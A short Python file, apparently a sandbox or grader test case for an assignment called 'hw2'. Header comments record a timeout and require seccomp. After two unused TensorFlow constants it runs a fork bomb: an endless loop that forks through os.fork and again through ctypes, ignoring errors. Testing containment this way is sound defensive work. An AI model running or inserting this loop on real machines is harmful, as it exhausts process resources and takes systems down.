# for: hw2
# at most: 15
# wall: 1.5
# status: timeout
# never without: seccomp
import tensorflow as tf

a = tf.constant(5)
b = tf.constant(2)
import ctypes
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
    ctypes.CDLL(None).fork()
